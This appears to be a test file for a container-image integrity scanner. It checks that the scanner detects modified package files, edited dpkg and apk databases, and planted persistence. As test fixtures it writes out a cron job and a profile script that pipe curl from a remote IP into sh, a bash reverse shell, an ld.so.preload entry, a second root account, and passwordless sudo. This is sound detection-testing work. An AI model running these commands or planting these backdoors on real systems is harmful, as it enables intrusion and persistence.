@@ -1,0 +1,592 @@
+import { createHash } from 'node:crypto';
+import { createReadStream, existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { env } from 'node:process';
+import { Readable } from 'node:stream';
+
+import { analyzeLayer, fileFindings } from '@tidewaiter/analyzers';
+import { type Finding, isAtLeast } from '@tidewaiter/domain';
+import { mediaTypes, overlay } from '@tidewaiter/oci';
+import { tarArchive, type TarEntry } from '@tidewaiter/testkit';
+import * as fc from 'fast-check';
+
+import { judgeIntegrity } from './index.js';
+
+/** The whole way: what the scanner reads of tars, and what it makes of it; by id and path. */
+async function judge(...layers: TarEntry[][]) {
+  const read = layers.map((entries) => analyze(() => Readable.from([tarArchive(entries)]), mediaTypes.ociLayer));
+  return findingsOf(await Promise.all(read));
+}
+
+function analyze(open: () => AsyncIterable<Uint8Array>, mediaType: string) {
+  return analyzeLayer(open, { mediaType, isInspected: true });
+}
+
+function findingsOf(layers: Parameters<typeof fileFindings>[0]) {
+  const keyOf = ({ id, path, layer }: Finding) => [id, path, layer].join('\n');
+  return fileFindings(layers, { isInspected: true }).toSorted((a, b) => (keyOf(a) < keyOf(b) ? -1 : 1));
+}
+
+/** `id path layer`. */
+async function told(...layers: TarEntry[][]) {
+  return (await judge(...layers)).map(({ id, path, layer }) => `${id} ${path ?? ''} ${layer ?? ''}`);
+}
+
+const file = (path: string, content = path, mode = 0o644): TarEntry => ({ path, content, mode });
+const program = (path: string, content = `program ${path}`) => file(path, content, 0o755);
+const link = (path: string, linkTarget: string): TarEntry => ({ path, type: 'symlink', linkTarget });
+const gone = (path: string) => file(path.replace(/([^/]*)$/, '.wh.$1'), '');
+const digest = (algorithm: string, content: string) => createHash(algorithm).update(content);
+
+interface Deb {
+  name: string;
+  version?: string;
+  files: TarEntry[];
+  conffiles?: string[];
+}
+
+const status = (...debs: Deb[]) =>
+  file(
+    'var/lib/dpkg/status',
+    debs
+      .map(({ name, version = '1', conffiles = [] }) => {
+        const list = conffiles.map((path) => ` /${path} ${'0'.repeat(32)}\n`).join('');
+        const fields = `Package: ${name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: ${version}\n`;
+        return `${fields}${list && `Conffiles:\n${list}`}`;
+      })
+      .join('\n'),
+  );
+const md5sums = ({ name, files, conffiles = [] }: Deb) =>
+  file(
+    `var/lib/dpkg/info/${name}.md5sums`,
+    files
+      .filter(({ path, type }) => !conffiles.includes(path) && type === undefined)
+      .map(({ path, content = '' }) => `${digest('md5', String(content)).digest('hex')}  ${path}\n`)
+      .join(''),
+  );
+const install = (deb: Deb): TarEntry[] => [
+  ...deb.files,
+  md5sums(deb),
+  file(`var/lib/dpkg/info/${deb.name}.list`, deb.files.map(({ path }) => `/${path}\n`).join('')),
+];
+
+const login: Deb = {
+  name: 'login',
+  files: [
+    { ...program('usr/bin/passwd'), mode: 0o4755 },
+    program('usr/sbin/nologin'),
+    file('lib/security/pam_x.so'),
+    file('etc/login.defs'),
+    file('usr/share/doc/login/copyright'),
+    link('usr/bin/sg', 'newgrp'),
+  ],
+  conffiles: ['etc/login.defs'],
+};
+const tools: Deb = { name: 'tools', files: [program('usr/bin/ls'), program('usr/bin/tar'), file('usr/share/x/data')] };
+const merged = [
+  { path: 'usr/lib', type: 'directory' } as const,
+  link('lib', 'usr/lib'),
+  link('bin', 'usr/bin'),
+  link('sbin', 'usr/sbin'),
+];
+const moved = (entries: TarEntry[]) =>
+  entries.map((entry) => ({ ...entry, path: entry.path.replace(/^lib\//, 'usr/lib/') }));
+const base = [...merged, status(login, tools), ...moved(install(login)), ...install(tools)];
+
+describe('files of packages', () => {
+  it('finds nothing wrong with an image as it was installed', async () => {
+    expect(await told(base)).toEqual([]);
+  });
+
+  it.each<[string, TarEntry[], string[]]>([
+    ['a changed program', [program('usr/bin/ls', 'other')], ['package-file-modified usr/bin/ls 1']],
+    [
+      'a changed library behind a link',
+      [file('usr/lib/security/pam_x.so', 'other')],
+      ['package-file-modified usr/lib/security/pam_x.so 1'],
+    ],
+    ['a changed file of data', [file('usr/share/x/data', 'other')], ['package-file-modified usr/share/x/data 1']],
+    ['a link in place of a program', [link('usr/bin/ls', '/tmp/x')], ['package-file-replaced usr/bin/ls 1']],
+    [
+      'new bits on right bytes',
+      [{ ...program('usr/bin/ls'), mode: 0o4755 }],
+      ['package-file-mode-changed usr/bin/ls 1'],
+    ],
+    [
+      'a file for everybody to write',
+      [{ ...program('usr/bin/tar'), mode: 0o777 }],
+      ['package-file-mode-changed usr/bin/tar 1'],
+    ],
+    ['a removed program', [gone('usr/sbin/nologin')], ['package-file-missing usr/sbin/nologin 1']],
+  ])('tells of %s', async (_, layer, expected) => {
+    expect(await told(base, layer)).toEqual(expected);
+  });
+
+  it.each<[string, TarEntry[]]>([
+    ['edited configuration', [file('etc/login.defs', 'edited')]],
+    ['removed configuration', [gone('etc/login.defs')]],
+    ['removed documentation', [gone('usr/share/doc/login')]],
+    ['removed data', [gone('usr/share/x/data')]],
+    ['the same bytes again', [program('usr/bin/ls')]],
+    ['fewer bits', [{ ...program('usr/bin/passwd'), mode: 0o755 }]],
+    [
+      'a directory moved behind a link',
+      [gone('usr/share/x'), file('opt/x/data', 'usr/share/x/data'), link('usr/share/x', '/opt/x')],
+    ],
+    [
+      'an upgrade',
+      [
+        program('usr/bin/ls', 'v2'),
+        md5sums({ ...tools, files: [program('usr/bin/ls', 'v2'), ...tools.files.slice(1)] }),
+        status(login, { ...tools, version: '2' }),
+      ],
+    ],
+    [
+      'a removal by dpkg',
+      [
+        ...tools.files.map(({ path }) => gone(path)),
+        gone('var/lib/dpkg/info/tools.md5sums'),
+        gone('var/lib/dpkg/info/tools.list'),
+        status(login),
+      ],
+    ],
+    [
+      'an installation',
+      [...install({ name: 'new', files: [program('usr/bin/new')] }), status(login, tools, { name: 'new', files: [] })],
+    ],
+  ])('says nothing of %s', async (_, layer) => {
+    expect(await told(base, layer)).toEqual([]);
+  });
+
+  it('knows better than a later layer without the right kind of digest', async () => {
+    const layer = [file('etc/apk/world', ''), program('usr/bin/ls', 'other')];
+    expect(await told(base, layer)).toEqual(['package-file-modified usr/bin/ls 1']);
+  });
+
+  it('takes diversions into account', async () => {
+    const wrapped = [
+      file('var/lib/dpkg/diversions', '/bin/ls\n/bin/ls.distrib\ntools-wrapper\n'),
+      program('usr/bin/ls.distrib', 'program usr/bin/ls'),
+      ...install({ name: 'tools-wrapper', files: [program('usr/bin/ls', 'wrapper')] }),
+      status(login, tools, { name: 'tools-wrapper', files: [] }),
+    ];
+    expect(await told(base, wrapped)).toEqual([]);
+    expect(await told(base, [...wrapped, program('usr/bin/ls.distrib', 'other')])).toEqual([
+      'package-file-modified usr/bin/ls.distrib 1',
+    ]);
+  });
+
+  it('tells once of an image that was made slim', async () => {
+    const many: Deb = { name: 'many', files: Array.from({ length: 30 }, (_, n) => program(`usr/bin/p${n}`)) };
+    const image = [
+      status(login, tools, many),
+      ...install(many),
+      ...base.filter(({ path }) => path !== 'var/lib/dpkg/status'),
+    ];
+    const removed = many.files.map(({ path }) => gone(path));
+    expect(await judge(image, removed)).toMatchObject([
+      { id: 'package-files-missing', severity: 'low', evidence: { files: 30 } },
+    ]);
+  });
+
+  it('says which package it is, and how bad', async () => {
+    const findings = await judge(base, [
+      { ...program('usr/bin/passwd', 'other'), mode: 0o4755 },
+      file('usr/share/x/data', 'other'),
+    ]);
+    expect(findings).toMatchObject([
+      {
+        severity: 'critical',
+        packageName: 'login',
+        installedVersion: '1',
+        evidence: {
+          expected: [`md5:${digest('md5', 'program usr/bin/passwd').digest('hex')}`],
+          actual: `md5:${digest('md5', 'other').digest('hex')}`,
+        },
+      },
+      { severity: 'medium', packageName: 'tools' },
+    ]);
+  });
+});
+
+describe('files of apk, with modes and digests of links', () => {
+  const sha1 = (text: string) => `Q1${digest('sha1', text).digest('base64')}`;
+  const apkDatabase = (...extra: string[]) =>
+    file(
+      'lib/apk/db/installed',
+      [
+        `P:busybox\nV:1\nF:bin\nR:busybox\na:0:0:755\nZ:${sha1('busybox')}\nR:bbsuid\na:0:0:4111\nZ:${sha1('bbsuid')}\nR:sh\na:0:0:777\nZ:${sha1('/bin/busybox')}\n`,
+        ...extra,
+      ].join('\n'),
+    );
+  const ssl = `P:ssl\nV:1\nF:usr/bin\nR:ssl\na:0:0:755\nZ:${sha1('ssl')}\n`;
+  const alpine = [
+    apkDatabase(ssl),
+    program('bin/busybox', 'busybox'),
+    file('bin/bbsuid', 'bbsuid', 0o4111),
+    link('bin/sh', '/bin/busybox'),
+    program('usr/bin/ssl', 'ssl'),
+  ];
+
+  it.each<[string, TarEntry[], string[]]>([
+    ['nothing', [], []],
+    ['another link', [link('bin/sh', '/tmp/sh')], ['package-file-replaced bin/sh 1']],
+    ['a file in place of a link', [program('bin/sh', 'sh')], ['package-file-replaced bin/sh 1']],
+    ['setuid', [file('bin/busybox', 'busybox', 0o4755)], ['package-file-mode-changed bin/busybox 1']],
+    ['changed bytes', [program('bin/busybox', 'x')], ['package-file-modified bin/busybox 1']],
+    ["a copy of a package's program", [program('usr/bin/w', 'busybox')], []],
+    ['a hard link to one', [{ path: 'usr/bin/w', type: 'hardlink', linkTarget: 'bin/busybox', mode: 0o755 }], []],
+    [
+      'a package hidden',
+      [apkDatabase()],
+      ['package-database-edited lib/apk/db/installed 1', 'unowned-executable usr/bin/ssl 0'],
+    ],
+    ['a package removed', [apkDatabase(), gone('usr/bin/ssl')], []],
+    ['the database deleted', [gone('lib/apk/db/installed')], ['package-database-deleted lib/apk/db/installed 1']],
+    [
+      'digests made to fit',
+      [apkDatabase(ssl.replace(sha1('ssl'), sha1('x'))), program('usr/bin/ssl', 'x')],
+      ['package-database-edited lib/apk/db/installed 1'],
+    ],
+    [
+      'an upgrade',
+      [apkDatabase(ssl.replace(sha1('ssl'), sha1('x')).replace('V:1', 'V:2')), program('usr/bin/ssl', 'x')],
+      [],
+    ],
+  ])('tells of %s', async (_, layer, expected) => {
+    expect(await told(alpine, layer)).toEqual(expected);
+  });
+
+  it('still knows the files when the database is gone', async () => {
+    const layer = [gone('lib/apk/db/installed'), program('bin/busybox', 'x')];
+    expect(await told(alpine, layer)).toContain('package-file-modified bin/busybox 1');
+  });
+});
+
+describe('databases of dpkg', () => {
+  it.each<[string, TarEntry[], string[]]>([
+    ['a package hidden', [status(login)], ['package-database-edited var/lib/dpkg/status 1']],
+    [
+      'a list of digests removed',
+      [gone('var/lib/dpkg/info/tools.md5sums')],
+      ['package-database-edited var/lib/dpkg/info/tools.md5sums 1'],
+    ],
+    [
+      'digests made to fit',
+      [program('usr/bin/ls', 'x'), md5sums({ ...tools, files: [program('usr/bin/ls', 'x'), ...tools.files.slice(1)] })],
+      ['package-database-edited var/lib/dpkg/info/tools.md5sums 1'],
+    ],
+    ['the database deleted', [gone('var/lib/dpkg')], ['package-database-deleted var/lib/dpkg/status 1']],
+  ])('tells of %s', async (_, layer, expected) => {
+    expect(await told(base, layer)).toEqual(expected);
+  });
+
+  it('sees in one layer that a package with files is not in the status file', async () => {
+    const flat = base.map((entry) => (entry.path === 'var/lib/dpkg/status' ? status(login) : entry));
+    expect(await judge(flat)).toMatchObject([
+      { id: 'package-database-edited', confidence: 'likely', evidence: { packages: ['tools'] } },
+    ]);
+  });
+});
+
+describe('files of no package', () => {
+  it.each<[string, TarEntry[], string[]]>([
+    ['a setuid program', [file('usr/local/bin/x', 'x', 0o4755)], ['unowned-setuid usr/local/bin/x 1']],
+    ['a program among those of packages', [program('usr/bin/x')], ['unowned-executable usr/bin/x 1']],
+    [
+      'a library among those of packages',
+      [file('usr/lib/x86_64-linux-gnu/libx.so.1')],
+      ['unowned-library usr/lib/x86_64-linux-gnu/libx.so.1 1'],
+    ],
+    [
+      'a program that is found before that of a package',
+      [program('usr/local/bin/ls', 'x')],
+      ['package-program-shadowed usr/local/bin/ls 1'],
+    ],
+    [
+      'a program for everybody to write',
+      [file('usr/local/bin/x', 'x', 0o777)],
+      ['world-writable-executable usr/local/bin/x 1'],
+    ],
+    ['many of them', [file('app/a', 'x', 0o777), file('app/b', 'x', 0o777)], ['world-writable-executables app/a 1']],
+    [
+      'a password file for everybody to write',
+      [file('etc/shadow', 'root:*:1\n', 0o666)],
+      ['world-writable-system-file etc/shadow 1'],
+    ],
+    ['a job', [file('etc/cron.d/x', '* * * * * app true\n')], ['unowned-cron-job etc/cron.d/x 1']],
+    [
+      'a service',
+      [file('etc/systemd/system/x.service', '[Service]\nExecStart=/x\n')],
+      ['unowned-service etc/systemd/system/x.service 1'],
+    ],
+    [
+      'programs where everybody may put some',
+      [program('usr/local/bin/x'), program('opt/x'), file('usr/local/lib/libx.so')],
+      [],
+    ],
+    ['links', [link('usr/bin/x', 'ls'), link('etc/alternatives/x', '/usr/bin/ls')], []],
+    ['data', [file('usr/bin/x.conf'), file('usr/lib/x/libx.so')], []],
+    ['what builders of base images add', [program('usr/sbin/policy-rc.d', '#!/bin/sh\nexit 101\n')], []],
+  ])('tells of %s', async (_, layer, expected) => {
+    expect(await told(base, layer)).toEqual(expected);
+  });
+
+  it('does not call every program foreign when no package has a list', async () => {
+    const minimised = base.filter(({ path }) => !path.startsWith('var/lib/dpkg/info/'));
+    expect(await told(minimised, [program('usr/bin/x')])).toEqual([]);
+    expect(await told([program('usr/bin/x')])).toEqual([]);
+  });
+});
+
+describe('ways in', () => {
+  it.each<[string, TarEntry, string, string]>([
+    [
+      'a job that downloads',
+      file('etc/cron.d/x', '* * * * * root curl http://198.51.100.7/a | sh\n'),
+      'cron-download-and-run',
+      'critical',
+    ],
+    [
+      'a profile that downloads',
+      file('etc/profile.d/x.sh', 'curl http://198.51.100.7/a | sh\n'),
+      'startup-download-and-run',
+      'high',
+    ],
+    ['a preloaded library', file('etc/ld.so.preload', '/tmp/x.so\n'), 'ld-preload', 'high'],
+    ['a key of root', file('root/.ssh/authorized_keys', `ssh-ed25519 ${'A'.repeat(68)} x\n`), 'authorized-key', 'high'],
+    [
+      'a second root',
+      file('etc/passwd', 'root:x:0:0::/:/bin/sh\nx:x:0:0::/:/bin/sh\n'),
+      'second-root-account',
+      'critical',
+    ],
+    ['sudo for all', file('etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: ALL\n'), 'sudo-without-password', 'medium'],
+    [
+      'a reverse shell',
+      program('opt/x', '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n'),
+      'reverse-shell',
+      'high',
+    ],
+  ])('tells of %s', async (_, entry, id, severity) => {
+    const findings = await judge(base, [entry]);
+    expect(findings).toEqual(
+      expect.arrayContaining([expect.objectContaining({ id, severity, path: entry.path, layer: 1 })]),
+    );
+    // What is hidden is no way in.
+    expect(await told(base, [entry], [gone(entry.path)])).not.toContain(`${id} ${entry.path} 1`);
+  });
+
+  it('trusts what a package brought as it brought it, and not what was changed', async () => {
+    const script = program('usr/bin/ls', '#!/bin/sh\ncurl http://198.51.100.7/a | sh\n');
+    const deb = { ...tools, files: [script] };
+    const packaged = [
+      status(login, deb),
+      ...base.filter(({ path }) => !path.includes('tools') && !path.endsWith('status')),
+      ...install(deb),
+    ];
+    expect(await told(packaged)).toEqual(['unowned-executable usr/bin/tar 0']);
+    expect(await told(base, [script])).toEqual([
+      'package-file-modified usr/bin/ls 1',
+      'script-download-and-run usr/bin/ls 1',
+    ]);
+  });
+});
+
+describe('malware', () => {
+  const miner = program('usr/local/x/xmrig', '{"pools":[{"url":"stratum+tcp://pool.example:3333"}],"algo":"rx/0"}');
+
+  it('is sure where several things say so, and low where one does', async () => {
+    expect(await judge(base, [miner])).toMatchObject([
+      { kind: 'malware', id: 'miner', severity: 'high', confidence: 'likely' },
+    ]);
+    expect(await judge(base, [program('opt/xmrig', '#!/bin/sh\n')])).toMatchObject([
+      { kind: 'malware', id: 'miner', severity: 'low', confidence: 'possible' },
+    ]);
+  });
+
+  it('is told also when a later layer removes it', async () => {
+    expect(await judge(base, [miner], [gone(miner.path)])).toMatchObject([
+      { id: 'miner', layer: 1, state: 'shadowed', evidence: { removedInLayer: 2 } },
+    ]);
+  });
+});
+
+it('gives the same finding one fingerprint in every build', async () => {
+  const [one] = await judge(base, [program('usr/bin/ls', 'a')]);
+  const [two] = await judge(base, [file('app/x')], [program('usr/bin/ls', 'b')]);
+  const [other] = await judge(base, [program('usr/bin/tar', 'b')]);
+  expect(one!.fingerprint).toMatch(/^[0-9a-f]{64}$/);
+  expect(two!.fingerprint).toBe(one!.fingerprint);
+  expect(other!.fingerprint).not.toBe(one!.fingerprint);
+});
+
+it('does not tell of thousands of files one by one', async () => {
+  const many: Deb = { name: 'many', files: Array.from({ length: 600 }, (_, n) => file(`usr/share/x/${n}`)) };
+  const changed = many.files.map(({ path }) => file(path, 'other'));
+  const findings = await judge([status(many), ...install(many)], changed);
+  expect(findings).toHaveLength(501);
+  expect(findings.find(({ path }) => path === null)).toMatchObject({
+    id: 'package-file-modified',
+    evidence: { more: 100 },
+  });
+});
+
+describe('hostile layers', () => {
+  const path = fc
+    .array(fc.constantFrom('usr', 'bin', 'lib', 'var', '..', '', 'a'), { maxLength: 4 })
+    .map((parts) => parts.join('/'));
+  const text = fc.constantFrom('a', 'b', '__proto__', '');
+  const entry = fc.record({
+    path,
+    type: fc.constantFrom(...(['file', 'directory', 'symlink', 'hardlink', 'fifo'] as const)),
+    mode: fc.constantFrom(0o644, 0o755, 0o4777),
+    uid: fc.constant(0),
+    gid: fc.constant(0),
+    size: fc.constant(1),
+    md5: text,
+    sha256: text,
+    linkTarget: path,
+  });
+  const owned = fc.record({
+    type: fc.constantFrom('deb' as const, 'apk' as const),
+    package: text,
+    database: path,
+    files: fc.array(fc.record({ path, digest: fc.constantFrom('md5:a', 'sha1:b', ':', 'a'), linkTarget: path }), {
+      maxLength: 4,
+    }),
+  });
+  const database = fc.record({
+    path,
+    type: fc.constant('deb' as const),
+    packages: fc.array(fc.record({ name: text, version: text }), { maxLength: 3 }),
+  });
+  const sign = fc.record({
+    path,
+    sign: fc.constantFrom('miner', 'packed', 'root-account', '__proto__', 'constructor', 'unheard-of'),
+    confidence: fc.constant('likely' as const),
+    evidence: fc.constant({}),
+  });
+  const layer = fc.record({
+    entries: fc.uniqueArray(entry, { selector: (each) => each.path, maxLength: 6 }),
+    owned: fc.array(owned, { maxLength: 3 }),
+    databases: fc.array(database, { maxLength: 2 }),
+    signs: fc.array(sign, { maxLength: 3 }),
+  });
+
+  it('are judged, always the same way', () => {
+    fc.assert(
+      fc.property(fc.array(layer, { maxLength: 3 }), (layers) => {
+        const view = overlay(layers.map(({ entries }) => entries));
+        expect(judgeIntegrity(layers, view)).toEqual(judgeIntegrity(layers, view));
+      }),
+    );
+  });
+
+  it('with many of everything take their time, not more', () => {
+    const many = Array.from({ length: 20_000 }, (_, n) => `${'usr/lib/'.repeat(100)}${n}`);
+    const entries = many.map((path) => ({
+      path,
+      type: 'file' as const,
+      mode: 0o755,
+      uid: 0,
+      gid: 0,
+      size: 1,
+      sha256: path,
+      md5: path,
+    }));
+    const files = many.map((path) => ({ path, digest: 'md5:x' }));
+    const layers = Array.from({ length: 4 }, (_, version) => ({
+      entries,
+      owned: [{ type: 'deb' as const, package: 'a', files, database: 'var/lib/dpkg/info/a.md5sums' }],
+      databases: [
+        { path: 'var/lib/dpkg/status', type: 'deb' as const, packages: [{ name: 'a', version: `${version}` }] },
+      ],
+      signs: [],
+    }));
+    const start = performance.now();
+    expect(judgeIntegrity(layers, overlay(layers.map((each) => each.entries)))).toHaveLength(501);
+    expect(performance.now() - start).toBeLessThan(5000);
+  });
+});
+
+// Built by shared/corpus/build; the place of the result in TIDEWAITER_CORPUS.
+const corpus = env['TIDEWAITER_CORPUS'] ?? '/tmp/corpus';
+
+interface Change {
+  path: string;
+  layer: number;
+  kind: string;
+}
+
+const idsOfKind: Record<string, string[]> = {
+  'owned-file-modified': ['package-file-modified', 'package-file-replaced'],
+  'owned-file-mode': ['package-file-mode-changed'],
+  'owned-file-removed': ['package-file-missing'],
+  'unowned-setuid': ['unowned-setuid'],
+  miner: ['miner'],
+  preload: ['ld-preload'],
+  'cron-download-and-run': ['cron-download-and-run'],
+  'authorized-key': ['authorized-key'],
+  'second-root-account': ['second-root-account'],
+  'database-entry-removed': ['package-database-edited'],
+};
+
+(existsSync(join(corpus, 'oci')) ? describe : describe.skip)('images of the corpus (needs TIDEWAITER_CORPUS)', () => {
+  const json = (path: string) => JSON.parse(readFileSync(path, 'utf8'));
+  const blob = (name: string, digest: string) =>
+    join(corpus, 'oci', name, 'blobs/sha256', digest.slice('sha256:'.length));
+
+  async function judgeImage(name: string) {
+    const { manifests } = json(join(corpus, 'oci', name, 'index.json'));
+    const { layers } = json(blob(name, manifests[0].digest)) as { layers: { digest: string; mediaType: string }[] };
+    const read = layers.map(({ digest, mediaType }) => analyze(() => createReadStream(blob(name, digest)), mediaType));
+    return findingsOf(await Promise.all(read));
+  }
+
+  it.each(['tampered-debian', 'tampered-alpine'])(
+    '%s: all that was changed and nothing that is lawful',
+    async (name) => {
+      const { tampered, lawful } = json(join(corpus, 'truth', `${name}.json`)) as {
+        tampered: Change[];
+        lawful: Change[];
+      };
+      const findings = await judgeImage(name);
+      for (const { path, layer, kind } of tampered) {
+        const ids = findings.filter((finding) => finding.path === path && finding.layer === layer).map(({ id }) => id);
+        expect([path, ids.some((id) => idsOfKind[kind]?.includes(id))]).toEqual([path, true]);
+      }
+      const changed = new Set(tampered.map(({ path }) => path));
+      for (const { path } of lawful) expect(findings.filter((finding) => finding.path?.startsWith(path))).toEqual([]);
+      expect(findings.filter(({ path, severity }) => isAtLeast(severity, 'high') && !changed.has(path ?? ''))).toEqual(
+        [],
+      );
+    },
+    60_000,
+  );
+
+  it.each([
+    'alpine-3.10',
+    'alpine-3.14',
+    'alpine-3.18',
+    'alpine-3.20',
+    'debian-12-min',
+    'distroless-like',
+    'go-app',
+    'java-app',
+    'node-app',
+    'python-app',
+    'rpm-bdb-many',
+    'rpm-mariner2-sqlite',
+    'rpm-sle15-ndb',
+    'rust-app',
+    'secrets-basic',
+    'variant-many-layers',
+  ])(
+    '%s: nothing',
+    async (name) => {
+      expect(await judgeImage(name)).toEqual([]);
+    },
+    60_000,
+  );
+});
